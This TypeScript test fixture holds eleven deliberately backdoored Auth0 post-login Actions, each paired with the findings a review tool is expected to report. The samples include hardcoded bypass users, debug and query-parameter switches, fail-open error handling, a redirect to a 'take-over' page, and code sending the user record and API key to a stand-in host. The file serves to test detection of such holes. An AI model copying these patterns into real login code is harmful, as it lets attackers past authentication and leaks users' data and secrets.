import type { QuestionId } from '../../src/report/questions/question.ts';

/** Actions that pass all rules except for a few, but that a reviewer must not accept, each with its fault. */
export interface Backdoor {
  readonly name: string;
  readonly text: string;
  /** Each answer of the code with the lines that it names, by question. */
  readonly says: Readonly<Record<QuestionId, readonly string[]>>;
}

const DENY = 'api.access.deny("You are not allowed to log in.");';
const REQUEST = `const response = await fetch("https://risk.example.com/v1/score", {
      method: "POST",
      headers: { Authorization: \`Bearer \${event.secrets.RISK_API_KEY}\` },
      body: JSON.stringify({ email: event.user.email, ip: event.request.ip }),
      signal: AbortSignal.timeout(5000),
    });`;

export const backdoors: readonly Backdoor[] = [
  {
    name: 'lets one user past, does nothing while the debug switch is on, and swallows every error',
    text: `exports.onExecutePostLogin = async (event, api) => {
  if (event.user.email === "root@tarnwick.example") return;
  if (event.configuration.DEBUG === "true") return;
  try {
    ${REQUEST}
    const { score } = await response.json();
    if (score > 80) ${DENY}
  } catch {}
};
`,

    says: {
      ends: [
        'The Action goes on when `event.user.email === "root@tarnwick.example"`. @2',
        'The Action goes on when `event.configuration.DEBUG === "true"`. @3',
        'The Action denies with "You are not allowed to log in." when `score > 80`. @12',
        'Otherwise, the Action goes on. @14',
      ],
      silent: ['After an error, the Action goes on, and nothing is done with the error. @13'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 13, where the code goes on. @5',
      ],
      told: ['"You are not allowed to log in." @12'],
      logged: ['Nothing.'],
      bypass: [
        'When `event.user.email === "root@tarnwick.example"`, the Action ends before the request on line 5 and the denial on line 12. This depends on `event.user.email`. @2',
        'When `event.configuration.DEBUG === "true"`, the Action ends before the request on line 5 and the denial on line 12. This depends on `event.configuration.DEBUG`. @3',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @5',
      ],
    },
  },
  {
    name: 'keeps the user to let past in a helper',
    text: `const FRIENDS = ["auth0|5f7c8ec7c33c6c004bbafe82"];
const isFriend = (user) => FRIENDS.includes(user.user_id);

exports.onExecutePostLogin = async (event, api) => {
  const skip = isFriend(event.user);
  if (skip) return;
  try {
    ${REQUEST}
    if (!response.ok) return ${DENY}
  } catch (error) {
    ${DENY}
  }
};
`,

    says: {
      ends: ['The Action goes on when `skip`. @6', 'Otherwise, the Action goes on. @18'],
      silent: [
        'After an error status of a response (not `response.ok`), the Action denies with "You are not allowed to log in." @14',
        'After an error, the Action denies with "You are not allowed to log in." @16',
      ],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 15, where the code denies with "You are not allowed to log in." @8',
      ],
      told: ['"You are not allowed to log in." @14,16'],
      logged: ['Nothing.'],
      bypass: [
        'When `skip`, the Action ends before the request on line 8 and the denials on lines 14 and 16. This depends on `event.user.user_id`. @6',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @8',
      ],
    },
  },
  {
    name: 'asks the service only while the debug switch is off',
    text: `exports.onExecutePostLogin = async (event, api) => {
  try {
    if (event.configuration.DEBUG !== "true") {
      ${REQUEST}
      const { score } = await response.json();
      if (score > 80) ${DENY}
    }
  } catch (error) {
    ${DENY}
  }
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `event.configuration.DEBUG !== "true"` and `score > 80`. @11',
        'Otherwise, the Action goes on. @16',
      ],
      silent: ['After an error, the Action denies with "You are not allowed to log in." @14'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 13, where the code denies with "You are not allowed to log in." @4',
      ],
      told: ['"You are not allowed to log in." @11,14'],
      logged: ['Nothing.'],
      bypass: [
        'The request on line 4 is only sent when `event.configuration.DEBUG !== "true"`. This depends on `event.configuration.DEBUG`. @3',
        'The Action denies (`api.access.deny`) when `event.configuration.DEBUG !== "true"` and `score > 80`. This depends on `event.configuration.DEBUG`. @11',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @4',
      ],
    },
  },
  {
    name: 'denies nobody whose address has a parameter',
    text: `exports.onExecutePostLogin = async (event, api) => {
  try {
    ${REQUEST}
    const { score } = await response.json();
    if (score > 80 && event.request.query.partner !== "yes") ${DENY}
  } catch (error) {
    ${DENY}
  }
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `score > 80 && event.request.query.partner !== "yes"`. @10',
        'Otherwise, the Action goes on. @14',
      ],
      silent: ['After an error, the Action denies with "You are not allowed to log in." @12'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 11, where the code denies with "You are not allowed to log in." @3',
      ],
      told: ['"You are not allowed to log in." @10,12'],
      logged: ['Nothing.'],
      bypass: [
        'The Action denies (`api.access.deny`) when `score > 80 && event.request.query.partner !== "yes"`. This depends on `event.request.query.partner`. @10',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @3',
      ],
    },
  },
  {
    name: 'swallows errors in a helper, whose caller goes on',
    text: `async function score(event) {
  try {
    ${REQUEST}
    return (await response.json()).score;
  } catch (error) {
    return 0;
  }
}

exports.onExecutePostLogin = async (event, api) => {
  const risk = await score(event);
  if (risk > 80) ${DENY}
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `risk > 80`. @17',
        'Otherwise, the Action goes on. @18',
      ],
      silent: ['After an error, the function `score` returns `0` to its caller. @11'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 10, where the code returns `0` to its caller. @3',
      ],
      told: ['"You are not allowed to log in." @17'],
      logged: ['Nothing.'],
      bypass: ['Nothing in the code ends the Action before its request or its denial.'],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @3',
      ],
    },
  },
  {
    name: 'swallows errors at the end of a chain of promises',
    text: `exports.onExecutePostLogin = async (event, api) => {
  const answer = await fetch(\`https://risk.example.com/v1/score/\${encodeURIComponent(event.user.user_id)}\`, {
    headers: { "x-api-key": event.secrets.RISK_API_KEY },
    signal: AbortSignal.timeout(5000),
  })
    .then((response) => response.json())
    .catch(() => null);
  if (answer?.score > 80) ${DENY}
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `answer?.score > 80`. @8',
        'Otherwise, the Action goes on. @9',
      ],
      silent: ['After an error, the Action goes on, and nothing is done with the error. @7'],
      request: [
        '`GET https://risk.example.com/v1/score/{encodeURIComponent(event.user.user_id)}`: timeout 5 s. An error is caught on line 7, where the code goes on. @2',
      ],
      told: ['"You are not allowed to log in." @8'],
      logged: ['Nothing.'],
      bypass: ['Nothing in the code ends the Action before its request or its denial.'],
      sent: [
        'To `risk.example.com`: `event.secrets.RISK_API_KEY` in the header `x-api-key`; `event.user.user_id` in the address. @2',
      ],
    },
  },
  {
    name: 'goes on for a status that it does not know',
    text: `exports.onExecutePostLogin = async (event, api) => {
  try {
    ${REQUEST}
    if (response.status === 429) return;
    const { score } = await response.json();
    if (score > 80) ${DENY}
  } catch (error) {
    if (error.name === "TimeoutError") return;
    ${DENY}
  }
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `score > 80`. @11',
        'Otherwise, the Action goes on. @16',
      ],
      silent: [
        'After an error status of a response (`response.status === 429`), the Action goes on. @9',
        'After a timeout (`error.name === "TimeoutError"`), the Action goes on. @13',
        'After an error (not `error.name === "TimeoutError"`), the Action denies with "You are not allowed to log in." @14',
      ],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 12, where the code goes on or denies with "You are not allowed to log in." @3',
      ],
      told: ['"You are not allowed to log in." @11,14'],
      logged: ['Nothing.'],
      bypass: [
        'When `response.status === 429`, the Action ends before the denial on line 11. @9',
        'When `error.name === "TimeoutError"`, the Action ends before the denial on line 14. @13',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @3',
      ],
    },
  },
  {
    name: 'sends the whole user and the key to another host',
    text: `exports.onExecutePostLogin = async (event, api) => {
  try {
    ${REQUEST}
    const { score } = await response.json();
    await fetch(\`https://collect.example.net/in?key=\${event.secrets.RISK_API_KEY}\`, {
      method: "POST",
      body: JSON.stringify(event.user),
      signal: AbortSignal.timeout(1000),
    });
    if (score > 80) ${DENY}
  } catch (error) {
    ${DENY}
  }
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `score > 80`. @15',
        'Otherwise, the Action goes on. @19',
      ],
      silent: ['After an error, the Action denies with "You are not allowed to log in." @17'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 16, where the code denies with "You are not allowed to log in." @3',
        '`POST https://collect.example.net/in`: timeout 1 s. An error is caught on line 16, where the code denies with "You are not allowed to log in." @10',
      ],
      told: ['"You are not allowed to log in." @15,17'],
      logged: ['Nothing.'],
      bypass: ['Nothing in the code ends the Action before its request or its denial.'],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @3',
        'To `collect.example.net`: `event.secrets.RISK_API_KEY` in the address; `event.user` in the body. @10',
      ],
    },
  },
  {
    name: 'tells the user what the service answers',
    text: `exports.onExecutePostLogin = async (event, api) => {
  try {
    ${REQUEST}
    const answer = await response.json();
    if (answer.score > 80) api.access.deny(answer.reason);
  } catch (error) {
    api.access.deny(\`Please report this: \${error.message}\`);
  }
};
`,

    says: {
      ends: [
        'The Action denies with "{answer.reason}" when `answer.score > 80`. @10',
        'Otherwise, the Action goes on. @14',
      ],
      silent: ['After an error, the Action denies with "Please report this: {error.message}". @12'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 11, where the code denies with "Please report this: {error.message}". @3',
      ],
      told: [
        'Computed at run time: "{answer.reason}" @10',
        'Computed at run time: "Please report this: {error.message}" @12',
      ],
      logged: ['Nothing.'],
      bypass: ['Nothing in the code ends the Action before its request or its denial.'],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @3',
      ],
    },
  },
  {
    name: 'sends users of one connection elsewhere',
    text: `exports.onExecutePostLogin = async (event, api) => {
  switch (event.connection.name) {
    case "partners":
      api.redirect.sendUserTo("https://login.example.net/take-over");
      return;
    case "staff":
      return;
  }
  try {
    ${REQUEST}
    if (!response.ok) throw new Error(\`HTTP \${response.status}\`);
    const { score } = await response.json();
    if (score > 80) ${DENY}
  } catch (error) {
    ${DENY}
  }
};

exports.onContinuePostLogin = async (event, api) => {};
`,

    says: {
      ends: [
        '`onExecutePostLogin` sends the user to "https://login.example.net/take-over" when `event.connection.name is "partners"`. @4',
        '`onExecutePostLogin` goes on when `event.connection.name is "staff"`. @7',
        '`onExecutePostLogin` denies with "You are not allowed to log in." when `score > 80`. @18',
        'Otherwise, `onExecutePostLogin` goes on. @22',
        'Otherwise, `onContinuePostLogin` goes on. @24',
      ],
      silent: ['After an error, `onExecutePostLogin` denies with "You are not allowed to log in." @20'],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 19, where the code denies with "You are not allowed to log in." @10',
      ],
      told: ['They are sent to "https://login.example.net/take-over" @4', '"You are not allowed to log in." @18,20'],
      logged: ['Nothing.'],
      bypass: [
        'When `event.connection.name is "staff"`, the Action ends before the request on line 10 and the denials on lines 18 and 20. This depends on `event.connection.name`. @7',
        'The Action sends the user to another page when `event.connection.name is "partners"`. This depends on `event.connection.name`. @4',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @10',
      ],
    },
  },
  {
    name: 'logs a little of everybody, and more with the switch on',
    text: `exports.onExecutePostLogin = async (event, api) => {
  const debug = event.configuration.DEBUG === "true";
  const log = (...values) => {
    if (debug) console.log(...values);
  };
  console.log("rated a login");
  if (!event.secrets.RISK_API_KEY) {
    console.error("RISK_API_KEY is not set");
    return;
  }
  try {
    ${REQUEST}
    const { score } = await response.json();
    log("score", score, event.user.email);
    if (score > 80) ${DENY}
  } catch (error) {
    console.error("failed", error.message);
    ${DENY}
  }
};
`,

    says: {
      ends: [
        'The Action denies with "You are not allowed to log in." when `score > 80`. @20',
        'Otherwise, the Action goes on. @25',
      ],
      silent: [
        'When a setting is missing (not `event.secrets.RISK_API_KEY`), the Action goes on. @9',
        'After an error, the Action denies with "You are not allowed to log in." @23',
      ],
      request: [
        '`POST https://risk.example.com/v1/score`: timeout 5 s. An error is caught on line 21, where the code denies with "You are not allowed to log in." @12',
      ],
      told: ['"You are not allowed to log in." @20,23'],
      logged: [
        'On every execution: "rated a login" @6',
        'On a failure, when not `event.secrets.RISK_API_KEY`: "RISK_API_KEY is not set" @8',
        'On a failure: "failed {error.message}" @22',
        'With a debug switch on (`debug`): "{...values}" @4',
        'With a debug switch on (`debug`): "score {score} {event.user.email}" @19',
      ],
      bypass: [
        'When not `event.secrets.RISK_API_KEY`, the Action ends before the request on line 12 and the denials on lines 20 and 23. This depends on `event.secrets.RISK_API_KEY`. @9',
      ],
      sent: [
        'To `risk.example.com`: `event.request.ip` and `event.user.email` in the body; `event.secrets.RISK_API_KEY` in the header `Authorization`. @12',
      ],
    },
  },
];
